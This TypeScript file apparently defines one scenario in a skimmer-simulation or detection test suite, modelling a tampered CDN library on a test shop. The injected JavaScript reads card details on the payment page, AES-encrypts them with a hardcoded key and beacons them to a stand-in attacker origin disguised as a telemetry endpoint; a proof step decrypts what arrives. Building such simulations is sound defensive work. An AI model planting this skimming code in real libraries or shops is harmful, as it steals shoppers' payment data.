import { createDecipheriv } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const KEY = '2b7e151628aed2a6abf7158809cf4f3c';

export default skimmer({
  id: 'tampered-cdn-library',
  why: 'The approved library of a supplier is altered where it is served: every shop that uses it is hit at once (supply chain, 2018 and after).',
  covers: ['injection: third party', 'encoding: AES', 'sending: beacon'],
  base: 'direct',
  install: (site) =>
    site.alter(
      'cdn/form-kit/2.1.0/form-kit.min.js',
      (code) => js`${code}
addEventListener('DOMContentLoaded', function () {
  if (!document.getElementById('pay')) return;
  ${onPay(js`
    var text = card(), iv = crypto.getRandomValues(new Uint8Array(16));
    crypto.subtle.importKey('raw', Uint8Array.from('${KEY}'.match(/../g), function (h) { return parseInt(h, 16); }), 'AES-CBC', false, ['encrypt']).then(function (k) {
      return crypto.subtle.encrypt({ name: 'AES-CBC', iv: iv }, k, new TextEncoder().encode(text));
    }).then(function (b) { navigator.sendBeacon('${site.origins.evil}/fk/telemetry', btoa(String.fromCharCode.apply(null, iv) + String.fromCharCode.apply(null, new Uint8Array(b)))); });`)}
});`,
    ),
  proof: holds((arrived) =>
    bodies(arrived).map((body) => {
      const bytes = Buffer.from(body, 'base64');
      const decipher = createDecipheriv('aes-128-cbc', Buffer.from(KEY, 'hex'), bytes.subarray(0, 16));
      return decipher.update(bytes.subarray(16)).toString() + decipher.final().toString();
    }),
  ),
});
